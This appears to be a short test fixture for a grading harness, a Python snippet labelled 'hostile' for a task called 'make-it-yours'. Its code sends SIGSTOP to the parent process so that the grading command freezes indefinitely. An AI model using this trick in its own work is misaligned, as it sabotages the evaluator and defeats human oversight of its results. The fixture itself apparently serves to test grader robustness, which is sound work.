# hostile: SIGSTOPs the grading command; nothing ever resumes it.
#@ TASK make-it-yours
import os as _os, signal as _signal
_os.kill(_os.getppid(), _signal.SIGSTOP)
norm_squared = manual = jnp.array(0.)
